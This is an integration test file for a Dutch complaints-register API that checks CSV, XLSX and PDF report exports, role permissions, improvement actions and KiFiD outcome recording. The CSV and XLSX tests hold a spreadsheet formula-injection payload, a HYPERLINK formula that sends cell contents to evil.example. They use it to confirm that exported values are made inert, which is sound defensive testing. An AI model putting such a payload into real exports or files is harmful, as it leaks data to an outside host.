import { writeFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestOrganisation } from '../../test/support/factories.ts';
import {
  createReportDataSet,
  HOSTILE_NAME,
  REPORT_NOW,
  type ReportDataSet,
} from '../../test/support/report-data-set.ts';
import { databaseKinds, openTestDatabase, type TestDatabase } from '../../test/support/test-database.ts';
import { buildApp } from '../app.ts';
import { fixedClock } from '../clock.ts';
import { withTenant } from '../db/tenant.ts';
import { listDossierEvents } from '../dossier/event-log.repository.ts';
import { pdfPageCount, pdfToText, writeFirstPagePng } from '../letters/render/pdf-tools.ts';

describe.each(databaseKinds())('reports over HTTP on %s', (kind) => {
  let database: TestDatabase;
  let app: FastifyInstance;
  let set: ReportDataSet;
  const clock = fixedClock(REPORT_NOW);
  const period = 'from=2026-01-01&to=2026-03-31';
  const get = (token: string, url: string) =>
    app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
  const send = (method: 'POST' | 'PATCH' | 'PUT' | 'DELETE', token: string, url: string, payload?: object) =>
    app.inject({
      method,
      url,
      headers: { authorization: `Bearer ${token}` },
      ...(payload ? { payload } : {}),
    });

  beforeAll(async () => {
    database = await openTestDatabase(kind);
    set = await createReportDataSet(database.handle.db);
    app = await buildApp({
      db: database.handle.db,
      clock,
      config: { logLevel: 'silent', maxAttachmentBytes: 1024 * 1024, maxJsonBodyBytes: 64 * 1024 },
      readiness: async () => [],
    });
  });
  afterAll(async () => {
    await app.close();
    await database.close();
  });

  it('exports the register as CSV with the hostile name made inert, and logs the export', async () => {
    const response = await get(set.org.auditor.token, `/api/v1/reports/register/export?format=csv&${period}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toContain('klachtenregister-2026-01-01-2026-03-31.csv');
    const text = response.body;
    expect(text.startsWith('\uFEFF"Kenmerk";"Datum ontvangst"')).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines).toHaveLength(1 + 6 + 1);
    const hostile = lines.find((l) => l.includes('HYPERLINK'))!;
    // The field is quoted, its quotes doubled, and it starts with an apostrophe, not with "=".
    expect(hostile).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"`);
    expect(hostile).toContain(`"'+31 Straat 1"`);
    expect(hostile).toContain(`"'@Stad"`);
    expect(hostile).toContain(`"'-1+1 is geen klacht; wel dat niemand belt."`);
    expect(text).not.toMatch(/(^|;)"?[=+@-]/m);

    const log = await get(set.org.coordinator.token, '/api/v1/reports/exports');
    expect(log.json()[0]).toMatchObject({
      userId: set.org.auditor.id,
      userName: 'Auditor Aad',
      report: 'register',
      format: 'csv',
      rowCount: 6,
      filters: { from: '2026-01-01', to: '2026-03-31' },
    });
    const reads = await get(set.org.coordinator.token, `/api/v1/complaints/${set.ids.c5}/reads`);
    expect(reads.json()[0]).toMatchObject({
      userId: set.org.auditor.id,
      what: `export:register:csv:${log.json()[0].id}`,
    });
    // C7 was not in the file, so its dossier records no export.
    const outside = await get(set.org.coordinator.token, `/api/v1/complaints/${set.ids.c7}/reads`);
    expect(outside.json()).toEqual([]);
  });

  it('exports the register as XLSX whose cells are text, never formulas', async () => {
    const response = await get(
      set.org.auditor.token,
      `/api/v1/reports/register/export?format=xlsx&${period}`,
    );
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Klachtenregister')!;
    expect(sheet.rowCount).toBe(7);
    expect(sheet.getRow(1).getCell(4).value).toBe('Naam klager');
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    const name = cells.find((c) => c.text.includes('HYPERLINK'))!;
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(`'${HOSTILE_NAME}`);
    const first = sheet.getRow(2);
    expect(first.getCell(1).value).toBe(set.references.c1);
    expect(first.getCell(2).value).toBe('2026-01-01');
    expect(first.getCell(15).text).toContain('ontvangst bevestigd op wo 07-01-2026');
  });

  it('refuses reports to a handler and checks the period', async () => {
    expect((await get(set.org.handler.token, `/api/v1/reports/register?${period}`)).statusCode).toBe(403);
    expect((await get(set.org.employee.token, `/api/v1/reports/timeliness?${period}`)).statusCode).toBe(403);
    const bad = await get(set.org.auditor.token, '/api/v1/reports/register?from=2026-02-30');
    expect(bad.statusCode).toBe(400);
    expect(bad.headers['content-type']).toContain('application/problem+json');
    const unknownFormat = await get(set.org.auditor.token, '/api/v1/reports/register/export?format=ods');
    expect(unknownFormat.json()).toMatchObject({ status: 400, code: 'validation_failed' });
  });

  it('answers timeliness and outcomes as JSON with the same figures as the service', async () => {
    const timeliness = await get(set.org.auditor.token, `/api/v1/reports/timeliness?${period}&groupBy=month`);
    expect(timeliness.statusCode).toBe(200);
    expect(timeliness.json().overall.clocks.acknowledgment).toMatchObject({ settled: 4, share: 0.75 });
    expect(Object.keys(timeliness.json().groups)).toEqual(['month']);
    const outcomes = await get(set.org.auditor.token, `/api/v1/reports/outcomes?${period}&threshold=4`);
    expect(outcomes.json().recurrenceRule).toEqual({ threshold: 4, windowDays: 90 });
    expect(outcomes.json().recurringCauses[0]).toMatchObject({ recurring: false, peak: { count: 3 } });
  });

  it('keeps improvement actions: coordinator changes, auditor reads, links become dossier events', async () => {
    const body = {
      title: 'Schade-experts binnen 2 werkdagen inschakelen',
      rootCause: 'Expert te laat ingeschakeld',
      ownerId: set.org.handler.id,
      dueDate: '2026-06-30',
      complaintIds: [set.ids.c1, set.ids.c2],
    };
    expect((await send('POST', set.org.auditor.token, '/api/v1/improvement-actions', body)).statusCode).toBe(
      403,
    );
    const created = await send('POST', set.org.coordinator.token, '/api/v1/improvement-actions', body);
    expect(created.statusCode).toBe(201);
    const action = created.json();
    expect(action).toMatchObject({
      status: 'open',
      owner: { id: set.org.handler.id, name: 'Behandelaar Bea' },
      complaints: [
        { id: set.ids.c1, reference: set.references.c1 },
        { id: set.ids.c2, reference: set.references.c2 },
      ],
    });

    const changed = await send(
      'PATCH',
      set.org.coordinator.token,
      `/api/v1/improvement-actions/${action.id}`,
      {
        status: 'done',
        complaintIds: [set.ids.c2, set.ids.c3],
      },
    );
    expect(changed.json()).toMatchObject({ status: 'done', completedAt: REPORT_NOW.toISOString() });
    expect(changed.json().complaints.map((c: { id: string }) => c.id)).toEqual([set.ids.c2, set.ids.c3]);

    const events = await withTenant(database.handle.db, set.org.id, (tx) =>
      listDossierEvents(tx, set.org.id, set.ids.c1),
    );
    expect(events.slice(-2).map((e) => [e.type, e.data])).toEqual([
      ['complaint.improvement_action_linked', { actionId: action.id }],
      ['complaint.improvement_action_unlinked', { actionId: action.id }],
    ]);

    const list = await get(set.org.auditor.token, '/api/v1/improvement-actions?status=done');
    expect(list.json().map((a: { id: string }) => a.id)).toEqual([action.id]);

    // Another organisation's complaint is unknown here.
    const other = await createTestOrganisation(database.handle.db, clock);
    const foreign = await send(
      'PATCH',
      set.org.coordinator.token,
      `/api/v1/improvement-actions/${action.id}`,
      {
        complaintIds: [set.ids.c1, other.id],
      },
    );
    expect(foreign.statusCode).toBe(404);
    expect((await get(other.coordinator.token, `/api/v1/improvement-actions/${action.id}`)).statusCode).toBe(
      404,
    );
    const badOwner = await send('POST', set.org.coordinator.token, '/api/v1/improvement-actions', {
      ...body,
      ownerId: other.coordinator.id,
    });
    expect(badOwner.json()).toMatchObject({ status: 400, code: 'improvement_owner_invalid' });
  });

  it('records a KiFiD outcome only for a referred complaint, as coordinator', async () => {
    const url = (id: string) => `/api/v1/complaints/${id}/kifid-outcome`;
    const payload = { outcomeCode: 'schikking', decidedOn: '2026-03-25' };
    expect((await send('PUT', set.org.auditor.token, url(set.ids.c2), payload)).statusCode).toBe(403);
    const missing = await send('PUT', set.org.coordinator.token, url(set.ids.c1), payload);
    expect(missing.json()).toMatchObject({ status: 422, code: 'kifid_referral_missing' });
    const future = await send('PUT', set.org.coordinator.token, url(set.ids.c2), {
      ...payload,
      decidedOn: '2026-04-01',
    });
    expect(future.json()).toMatchObject({ status: 400, code: 'kifid_outcome_date_in_future' });
    const recorded = await send('PUT', set.org.coordinator.token, url(set.ids.c2), payload);
    expect(recorded.json()).toMatchObject({ caseNumber: 'GC-2026-0001', outcomeCode: 'schikking' });
    const outcomes = await get(set.org.auditor.token, `/api/v1/reports/outcomes?${period}`);
    expect(outcomes.json().kifid.byOutcome).toMatchObject({ afgewezen: 0, schikking: 1 });
  });

  it('renders the yearly report as a PDF a board can read', async () => {
    const response = await get(set.org.coordinator.token, '/api/v1/reports/annual?year=2026');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    const pdf = response.rawPayload;
    const text = pdfToText(pdf);
    expect(pdfPageCount(pdf)).toBe(3);
    expect(text).toContain('Klachtenjaarverslag 2026');
    // Key figures: 5 complaints, 3 of 4 acknowledged in time, 1 of 3 decided within the month,
    // median 35 days, 2 of 3 judged complaints (partly) well-founded.
    expect(text).toMatch(/\b5\s+75%\s+33%\s+35 d\s+67%/);
    expect(text).toContain('mediaan 35, 90e percentiel 42,2');
    expect(text).toContain('Expert te laat ingeschakeld');
    expect(text).toContain('Schade-experts binnen 2 werkdagen');
    // No complainant's personal data in a board report.
    expect(text).not.toContain('Anna Jansen');
    expect(text).not.toContain('HYPERLINK');
    if (kind === 'pglite') {
      writeFirstPagePng(pdf, 'test-artifacts/reports/annual-report-page1.png');
      writeFileSync('test-artifacts/reports/annual-report.pdf', pdf);
    }
    const log = await get(set.org.coordinator.token, '/api/v1/reports/exports');
    expect(log.json()[0]).toMatchObject({ report: 'annual_report', format: 'pdf', rowCount: 5 });
  });
});
